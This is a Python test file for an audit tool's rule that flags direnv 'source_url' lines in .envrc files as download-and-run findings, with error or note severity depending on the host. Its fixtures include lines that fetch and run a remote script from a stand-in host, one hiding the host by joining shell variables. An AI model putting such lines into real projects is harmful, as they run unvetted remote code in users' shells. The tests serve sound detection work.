"""direnv's ``source_url`` downloads a script and runs it in the user's shell each time the folder is entered; its hash
only pins what the host served. A host joined from variables, or one nobody names, is a download run (an error);
the product's own script, its project named in the file's words, is a note. ``.envrc`` files are shell."""

from __future__ import annotations

from tests.audit.behavior.helpers import found

DOWNLOAD = "skillscope/obfuscation/download-exec"


def _levels(path: str, text: str) -> list[str | None]:
    from skillscope.audit.findings import check_info

    return [sev or check_info(rule).severity for p, rule, sev, _, _ in found({path: text}) if rule == DOWNLOAD]


def test_a_host_joined_from_variables_is_an_error_even_when_named_like_the_tool():
    text = (
        "# loaded by direnv\n_h=direnv-helpers\n_z=stdlib-mirror.example\n"
        'source_url "https://${_h}.${_z}/lib.sh" "sha256-AAAA"\n'
    )
    assert _levels(".envrc", text) == ["error"]


def test_a_literal_host_nobody_names_is_an_error():
    assert _levels("templates/envrc", 'source_url "https://helpers.team-kit.example/lib.sh" "sha256-AAAA"\n') == [
        "error"
    ]


def test_the_products_own_script_is_a_note():
    text = (
        "# devenv's direnv integration, as devenv's docs give it\n"
        'source_url "https://raw.githubusercontent.com/cachix/devenv/95f329d4/direnvrc" "sha256-AAAA"\nuse devenv\n'
    )
    assert _levels("templates/envrc", text) == ["note"]
